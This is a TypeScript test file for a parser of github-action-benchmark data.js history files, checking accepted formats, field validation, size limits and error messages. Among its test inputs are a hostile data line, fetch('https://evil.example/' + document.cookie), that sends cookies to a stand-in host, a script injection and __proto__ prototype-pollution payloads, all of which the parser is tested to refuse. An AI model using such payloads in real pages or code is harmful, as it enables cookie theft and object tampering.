import { describe, expect, it } from "vitest";
import { errorOf } from "../../test/support/input-error.ts";
import { GAB_SCRIPT_PREFIX, MAX_GAB_DATA_BYTES, gabDataJson } from "./gab-data-js.ts";
import { parseGabData, type GabData } from "./gab-data.ts";

const SHA = "4345684813975ee7255514cacaca671dbad719f3";

/** A one-suite, one-run history in gab's shape, with `patch` applied to the run. */
function gabObject(patch: Record<string, unknown> = {}, suite = "Benchmark"): unknown {
  return {
    lastUpdate: 1654332736524,
    repoUrl: "https://github.com/o/r",
    entries: {
      [suite]: [
        {
          commit: {
            author: { name: "A. Author", username: "author" },
            committer: { name: "GitHub", username: "web-flow" },
            id: SHA,
            message: "subject\n\nbody",
            timestamp: "2022-06-03T23:16:14+09:00",
            url: `https://github.com/o/r/commit/${SHA}`,
          },
          date: 1654265838841,
          tool: "cargo",
          benches: [{ name: "fib", value: 86, range: "± 3", unit: "ns/iter" }],
          ...patch,
        },
      ],
    },
  };
}

/** A copy without the source location, which names the file. */
function withoutAt<T extends { at: unknown }>(value: T): Omit<T, "at"> {
  const copy: Partial<T> = { ...value };
  delete copy.at;
  return copy as Omit<T, "at">;
}

/** The runs without their source locations. */
function withoutPlaces(data: GabData): unknown {
  return [...data.suites].map(([suite, runs]) => [
    suite,
    runs.map((run) => ({ ...withoutAt(run), benches: run.benches.map(withoutAt) })),
  ]);
}

const dataJs = (object: unknown): string => GAB_SCRIPT_PREFIX + JSON.stringify(object, null, 2);
const parse = (text: string): GabData => parseGabData(text, "data.js");
const problem = (text: string): string => errorOf(() => parse(text)).describe();
const withBench = (bench: Record<string, unknown>): string =>
  dataJs(gabObject({ benches: [{ name: "fib", unit: "ns/iter", value: 1, ...bench }] }));

describe("gab data.js text forms", () => {
  it("reads the data.js form gab writes and the external JSON form alike", () => {
    const object = gabObject();
    const a = parse(dataJs(object));
    const b = parseGabData(JSON.stringify(object), "external.json");
    expect(a.form).toBe("data.js");
    expect(b.form).toBe("external-json");
    expect(withoutPlaces(b)).toEqual(withoutPlaces(a));
  });

  it("accepts a trailing semicolon, a byte-order mark and other spacing around =", () => {
    const json = JSON.stringify(gabObject());
    for (const text of [
      `${GAB_SCRIPT_PREFIX}${json};\n`,
      `\uFEFF${GAB_SCRIPT_PREFIX}${json}`,
      `window.BENCHMARK_DATA=${json}`,
    ])
      expect(parse(text).suites.get("Benchmark")).toHaveLength(1);
  });

  it.each([
    ["another variable", `window.OTHER_DATA = ${JSON.stringify(gabObject())}`],
    ["a declaration", `var BENCHMARK_DATA = ${JSON.stringify(gabObject())}`],
    [
      "script before the assignment",
      `alert(1); ${GAB_SCRIPT_PREFIX}${JSON.stringify(gabObject())}`,
    ],
    ["an array", JSON.stringify([gabObject()])],
    ["nothing", ""],
  ])("refuses %s, naming what it expected", (_name, text) => {
    expect(problem(text)).toMatch(
      /^data\.js: not github-action-benchmark data: expected "window\.BENCHMARK_DATA = \{"/,
    );
  });

  it("refuses script after the object instead of running or ignoring it", () => {
    const text = `${dataJs(gabObject())};\nfetch("https://evil.example/" + document.cookie);`;
    expect(problem(text)).toMatch(/^data\.js: invalid JSON/);
  });

  it("checks the size before parsing and the nesting before JSON.parse", () => {
    expect(problem(GAB_SCRIPT_PREFIX + " ".repeat(MAX_GAB_DATA_BYTES))).toMatch(/too large/);
    expect(problem(GAB_SCRIPT_PREFIX + "[".repeat(100_000) + "]".repeat(100_000))).toMatch(
      /nested deeper than 16/,
    );
  });

  it("returns the JSON text unchanged for the parser", () => {
    expect(gabDataJson(`${GAB_SCRIPT_PREFIX}{"a": 1};  `, "x")).toEqual({
      form: "data.js",
      json: '{"a": 1}',
    });
  });
});

describe("gab data.js fields", () => {
  it("keeps what the history can hold and counts what it cannot", () => {
    const data = parse(dataJs(gabObject()));
    const run = data.suites.get("Benchmark")?.[0];
    expect(run?.commit).toEqual({
      id: SHA,
      message: "subject\n\nbody",
      timestamp: "2022-06-03T23:16:14+09:00",
      url: `https://github.com/o/r/commit/${SHA}`,
      author: "A. Author",
    });
    expect(run?.benches.map(withoutAt)).toEqual([
      { name: "fib", value: 86, unit: "ns/iter", range: "± 3", extra: undefined },
    ]);
    expect([...data.dropped]).toEqual([
      ["commit.author.username", 1],
      ["commit.committer", 1],
    ]);
  });

  it("treats names as data: prototype names are suites and benches like any other", () => {
    const object = gabObject(
      {
        benches: ["constructor", "toString", "hasOwnProperty"].map((name) => ({
          name,
          value: 1,
          unit: "ns",
        })),
      },
      "constructor",
    );
    const data = parse(dataJs(object));
    expect([...data.suites.keys()]).toEqual(["constructor"]);
    expect(data.suites.get("constructor")?.[0]?.benches.map((b) => b.name)).toEqual([
      "constructor",
      "toString",
      "hasOwnProperty",
    ]);
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });

  it.each([
    ["a suite", `{"entries": {"__proto__": []}}`, /\/entries\/__proto__: object key "__proto__"/],
    [
      "a commit",
      dataJs(gabObject()).replace('"id":', '"__proto__": {"polluted": true}, "id":'),
      /\/entries\/Benchmark\/0\/commit\/__proto__: object key "__proto__"/,
    ],
    [
      "a bench name",
      withBench({ name: "__proto__" }),
      /benches\/0\/name: benchmark id "__proto__"/,
    ],
  ])("refuses __proto__ as %s", (_what, text, message) => {
    expect(problem(text)).toMatch(message);
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });

  it.each([
    ["NaN (not JSON)", withBench({}).replace('"value": 1', '"value": NaN'), /invalid JSON/],
    ["a negative value", withBench({ value: -3 }), /benches\/0\/value: must not be negative/],
    [
      "a string value",
      withBench({ value: "12" }),
      /benches\/0\/value: expected a number, found a string "12"/,
    ],
    [
      "an infinite value",
      withBench({}).replace('"value": 1', '"value": 1e400'),
      /value: number is out of range/,
    ],
    ["a missing value", withBench({ value: undefined }), /benches\/0: missing "value"/],
    ["a missing unit", withBench({ unit: undefined }), /benches\/0\/unit: expected a string/],
    ["an empty name", withBench({ name: " " }), /benches\/0\/name: benchmark id is empty/],
    ["a long unit", withBench({ unit: "u".repeat(33) }), /unit is longer than 32/],
    ["no benches", dataJs(gabObject({ benches: undefined })), /0\/benches: expected an array/],
    ["a bad date", dataJs(gabObject({ date: "yesterday" })), /0\/date: expected milliseconds/],
    ["a date past 9999", dataJs(gabObject({ date: 3e14 })), /0\/date: expected milliseconds/],
    ["no tool", dataJs(gabObject({ tool: undefined })), /0\/tool: expected a string/],
    [
      "no entries",
      `${GAB_SCRIPT_PREFIX}{"lastUpdate": 1}`,
      /^data\.js: \/entries: expected an object of suites/,
    ],
    [
      "a suite that is not a list",
      `${GAB_SCRIPT_PREFIX}{"entries": {"s": {}}}`,
      /\/entries\/s: expected an array of runs/,
    ],
  ])("refuses %s with the JSON path", (_what, text, message) => {
    expect(problem(text)).toMatch(message);
  });

  it("keeps null values (gab's NaN) for the import to report", () => {
    const bench = parse(withBench({ value: null })).suites.get("Benchmark")?.[0]?.benches[0];
    expect(bench?.value).toBeNull();
  });

  it("lower-cases a SHA and refuses commit ids that are not SHAs", () => {
    const upper = gabObject();
    const text = dataJs(upper).replace(SHA, SHA.toUpperCase());
    expect(parse(text).suites.get("Benchmark")?.[0]?.commit.id).toBe(SHA);
    expect(problem(dataJs(upper).replace(SHA, "HEAD"))).toMatch(
      /0\/commit\/id: commit id "HEAD" is not a 40-hex git SHA/,
    );
  });

  it("refuses a commit without an ISO-8601 timestamp", () => {
    const text = dataJs(gabObject()).replace("2022-06-03T23:16:14+09:00", "June 3rd");
    expect(problem(text)).toMatch(/commit\/timestamp: expected an ISO-8601 date-time/);
  });

  it("keeps non-text range/extra as their JSON and counts them", () => {
    const data = parse(withBench({ range: 4, extra: { samples: 10 } }));
    const bench = data.suites.get("Benchmark")?.[0]?.benches[0];
    expect([bench?.range, bench?.extra]).toEqual(["4", '{"samples":10}']);
    expect(data.textConversions).toBe(2);
  });

  it("counts unknown fields at every level as not kept", () => {
    const text = dataJs({
      ...(gabObject({ branch: "main" }) as object),
      extraTop: 1,
    }).replace('"value": 86', '"value": 86, "samples": [1, 2]');
    expect([...parse(text).dropped]).toEqual(
      expect.arrayContaining([
        ["extraTop", 1],
        ["run.branch", 1],
        ["bench.samples", 1],
      ]),
    );
  });
});
